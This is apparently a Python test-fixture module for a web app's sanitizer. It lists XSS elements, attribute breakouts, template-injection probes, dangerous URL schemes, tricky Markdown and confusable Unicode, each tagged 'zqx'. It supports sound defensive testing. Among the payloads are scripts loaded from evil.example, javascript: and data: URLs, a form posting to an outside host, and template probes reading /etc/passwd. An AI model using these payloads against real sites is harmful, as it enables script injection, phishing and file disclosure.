"""What hostile people type: markup, Markdown, addresses, signs of Unicode.

Each is written to come through one door in particular. Every element of them carries `zqx`, so that
one that came through is known for what it is.
"""

from __future__ import annotations

import base64
from html import escape

SCRIPT = "alert('zqx')"
URL = f"javascript:{SCRIPT}"

#: Elements that a browser runs something for.
ELEMENTS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt zqx>{SCRIPT}</sCrIpT >",
    "<script src=//evil.example/zqx.js></script>",
    f"<script/zqx>{SCRIPT}</script\t>",
    f"<<script zqx>{SCRIPT}//<</script>",
    f"<img zqx src=x onerror={SCRIPT}>",
    f'<img zqx src="x`y" onerror="{SCRIPT}"',
    f"<img zqx/src='x'/onerror\x0c=\x0c{SCRIPT}>",
    f"<svg/zqx/onload={SCRIPT}>",
    f"<svg><animate zqx onbegin={SCRIPT} attributeName=x dur=1s>",
    f'<svg><a zqx xlink:href="{URL}"><text>here</text></a></svg>',
    f"<svg><script zqx>{escape(SCRIPT)}</script></svg>",
    f'<math><maction zqx actiontype="statusline" xlink:href="{URL}">x</maction></math>',
    f"<math><mtext><table><mglyph><style><!--</style><img zqx src=x onerror={SCRIPT}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img zqx src onerror={SCRIPT}>",
    f'<noscript><p title="</noscript><img zqx src=x onerror={SCRIPT}>">',
    f"<details zqx open ontoggle={SCRIPT}>more</details>",
    f"<video zqx><source onerror={SCRIPT}></video>",
    f"<audio zqx src=x onerror={SCRIPT}>",
    f"<body zqx onload={SCRIPT}>",
    f"<input zqx autofocus onfocus={SCRIPT}>",
    f"<button zqx popovertarget=word-1 onclick={SCRIPT}>press</button>",
    f"<p zqx onpointerover={SCRIPT}>come here</p>",
    f"<xss zqx id=x tabindex=1 onfocus={SCRIPT}></xss>",
    f'<iframe zqx src="{URL}"></iframe>',
    f'<iframe zqx srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f'<object zqx data="{URL}"></object>',
    "<embed zqx src=//evil.example/zqx.swf>",
    "<base zqx href=//evil.example/>",
    f'<meta zqx http-equiv=refresh content="0;url={URL}">',
    '<meta zqx http-equiv=Content-Security-Policy content="script-src *">',
    "<link zqx rel=stylesheet href=//evil.example/zqx.css>",
    "<style zqx>*{background:url(//evil.example/zqx)}</style>",
    '<p zqx style="background:url(//evil.example/zqx);position:fixed;inset:0">over all</p>',
    "<form zqx action=//evil.example><button>Sign in</button></form>",
    f'<a zqx href="{URL}">here</a>',
    f'<a zqx href="&#106;avascript&colon;{SCRIPT}">here</a>',
    "<a zqx href=https://evil.example ping=https://evil.example/zqx target=_top>here</a>",
    '<div zqx hx-get="//evil.example/zqx" hx-trigger="load"></div>',
    f'<div zqx hx-on:load="{SCRIPT}" hx-on--load="{SCRIPT}"></div>',
    '<div zqx data-hx-post="/sign-out/everywhere" data-hx-trigger="load"></div>',
    '<div zqx sse-connect="//evil.example/zqx"></div>',
    "<img zqx name=getElementById><a id=main name=main zqx>",
    "<template zqx><script>1</script></template>",
    "<portal zqx src=//evil.example>",
    "<isindex zqx action=//evil.example>",
    "<plaintext zqx>",
    "<![CDATA[<script zqx>1</script>]]>",
    "<?xml zqx version='1.0'?><?php zqx ?>",
    "<!-- zqx --!><script zqx>1</script>",
    "<!--><script zqx>1</script-->",
    "<!doctype zqx><html manifest=//evil.example/zqx>",
    "</zqx></main></body></html><script zqx>1</script>",
]

#: Ways out of where words are put.
BREAKOUTS = [
    '"', "'", "`", ">", '">', "'>", '"/>', "--></", "*/", "]]>", "\\", '\\"', "\r\n", "\0",
    "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "</bdi></p></main>",
    "</template>", "</noscript>", "</svg>", "</button></form>", '" autofocus x="', "&quot;&gt;",
    "&lt;", "&#60;", "&#x3c;", "&#00000060", "%3C", "\\u003c", "\\x3c", "\uff1c", "\u2039",
    "\u00bc", "+ADw-", "\u017f", "\u0130", "{{", "{%", "${", "#{", "<%=", "[[", "((", "%s",
    "%(n)s", "{0}", "{self}", "%n%n%n",
]  # fmt: skip

#: What templates and texts of translators would make something of.
TEMPLATES = [
    "{{ 7 * 7 }}zqx", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}",
    "{{ frame.words_key }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "{n}", "{0.__class__}",
    "{a!r:>9}", "%(name)s", "%s%s%s%n", "{{ config }}", "{# zqx #}", "{passage}",
    "{{ _('Sign in') }}",
]  # fmt: skip


def _addresses() -> list[str]:
    signs = "javascript:" + SCRIPT
    data = base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode()
    return [
        signs, signs.upper(), "JaVaScRiPt:zqx", " \x01" + signs, "java\tscript:zqx",
        "java\nscript:zqx", "java\rscript:zqx", "\x00javascript:zqx", "javascript\t:zqx",
        "javascript&colon;zqx", "&#106;avascript:zqx", "&#x6A&#x61vascript:zqx",
        "&Tab;javascript:zqx", "java&NewLine;script:zqx", "javascript&#x3a;zqx",
        "%6Aavascript:zqx", "javascript%3Azqx", "\u2028javascript:zqx", "\ufeffjavascript:zqx",
        "\u00adjavascript:zqx", "jav\u200bascript:zqx", "\uff4aavascript:zqx",
        "javascript://%0Azqx", "javascript:/*--></title></style>zqx",
        f"data:text/html;base64,{data}", "data:text/html,<script>zqx</script>",
        "DATA:image/svg+xml,<svg onload=zqx>", "data:,zqx", "vbscript:zqx", "VBScript:zqx",
        "livescript:zqx", "mocha:zqx", "blob:https://evil.example/zqx", "filesystem:zqx",
        "file:///etc/passwd", "view-source:zqx", "about:blank", "jar:zqx!/",
        "feed:javascript:zqx", "ms-its:zqx", "intent://zqx#Intent;end", "tel:1;zqx",
        "//evil.example/zqx", "\\\\evil.example/zqx", "/\\evil.example/zqx",
        "///evil.example/zqx", "/\t/evil.example", "https:evil.example",
        "https:///evil.example/zqx", "http://care@evil.example/zqx",
        "https://evil.example\\@testserver/", "//evil.example%2f..", "/%2e%2e/%2fevil.example",
        "https://[::1/zqx", "https://\u0435vil.example/zqx", "https://x.example/" + "a" * 2100,
        "?zqx", "#zqx", "../../zqx", "mailto:a@b.example?bcc=c@d.example&body=zqx",
        "mailto:zqx%0ABcc:x",
    ]  # fmt: skip


#: Addresses that a link must not keep, or that must lead nowhere else.
ADDRESSES = _addresses()

#: Markdown with an address in the place of `{}`.
LINKS = [
    "[zqx]({})", "[zqx](<{}>)", '[zqx]({} "title\\" onclick=x")', "[zqx][r]\n\n[r]: {}",
    "[zqx][r]\n\n[r]: <{}> 'x'", "<{}>", "![zqx]({})", "[![zqx]({})]({})", "[zqx]\n\n[zqx]: {}",
    "[zqx](\\{})", "[zq*x]({})*", "[zqx](\n{}\n)", "[a](b)[c]({})", "[zqx]: {}\n===\n\n[zqx]",
    "> [zqx]({})", "- [zqx]({})", "| a |\n| - |\n| [zqx]({}) |", "**[zqx]({})**", "`[zqx]({})`",
]  # fmt: skip

#: Markdown where readers of it have gone wrong.
MARKDOWN = [
    "a\n===\n<script zqx>\n---", "<div zqx>\n\n*x*\n\n</div>", "<script zqx>\n\n</script>\n",
    "<!-- zqx\n\n-->", "<?zqx\n\n?>", "<!ZQX x>", "<![CDATA[zqx\n\n]]>", "    <script zqx>",
    "```<script zqx>\n<script zqx>\n```", '~~~ "onload=zqx\n~~~', '``` " onclick="zqx\nx\n```',
    "`` ` <script zqx> ` ``", "\\<script zqx>", "&lt;script zqx&gt;", "&#60;script zqx&#62;",
    "# <script zqx>", "<script zqx>\n===", "1. <img zqx onerror=1>\n2. x", "* * *", "***",
    "- - -", "| <b zqx> | b |\n|---|---|\n| `|` | \\| |", "|a|\n|:-:|\n|<td zqx>|\n|\n",
    "|||||\n|-|-|-|-|\n||", "[^1]: zqx", "[x]: <> (zqx)", "[" * 40 + "zqx" + "]" * 40, "![" * 30,
    "[](<>)", "[]()", "<>", "*" * 99 + "zqx" + "*" * 99, "_" * 50 + "a" + "_" * 49,
    "**a *b **c *d", "~~a ~b~~~c~", "`" * 77, "> " * 19 + "zqx", "- " * 19 + "zqx",
    "1. " * 9 + "zqx", "> - " * 9 + "# zqx", ">" * 60, "\t\t\tzqx", "-\n\n-\n-\tzqx",
    "+\n  zqx\n\n\n\n  x", "0. a\n999999999. b\n1234567890. c", "a  \n b\\\nc",
    "&copy &notit; &zqx; &#0; &#xFFFFFF; &#x110000; &#55296;", "http://zqx.example",
    "www.zqx.example", "a@zqx.example", "<a@zqx.example>", "<https://zqx.example/?<b>>",
    "[ ] zqx", "- [x] <input zqx>", "term\n: <dd zqx>", "{#zqx .x onclick=y}", "[zqx]{onclick=y}",
    "==zqx==", "H~2~O x^2^", "$$\\href{javascript:zqx}{x}$$", ":zqx:", "@ada <b zqx>",
    '@Ada"onclick=zqx', "\ufeff# zqx", "#\u00a0zqx", "\u2028# zqx", "-\u3000zqx", "a\x0bb\x0cc",
    "\x1b[31mzqx\x07",
]  # fmt: skip

#: Signs that are not what they seem, or that nothing should stumble over.
SIGNS = [
    "\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069",
    "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad",
    "\u034f", "\u115f", "\u3164", "\u180e", "\u2028", "\u2029", "\u0085", "\u00a0", "\ufffd",
    "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ue000", "\U000e0001",
    "\U000e0041", "\ufe0f", "\U000e0100", "\U0001f3fb", "\U0001f1e6", "\x00", "\x01", "\x08",
    "\x0b", "\x0c", "\x1b", "\x7f", "\x80", "\x9f", "\u0300", "\u0489", "\u20dd", "\u1dc0",
    "\u0e49", "\u0344", "\u0149", "\u1e9e", "\ufb03", "\ufdfa", "\u2126", "\u212b", "\u0130",
    "\u0131", "\u0345", "\u03c2", "\u1100\u1161\u11a8", "\uac01", "A\u030a", "\u00c5",
    "\U0001d54f", "\u2460", "\u00b2", "\u0661", "\u096a", "\uff11", "\u4e00", "\u2164", "\u00bd",
    "\u05d0", "\u0627", "\ud83d", "\ude00", "\ud800", "\udfff", "\udc80",
]  # fmt: skip
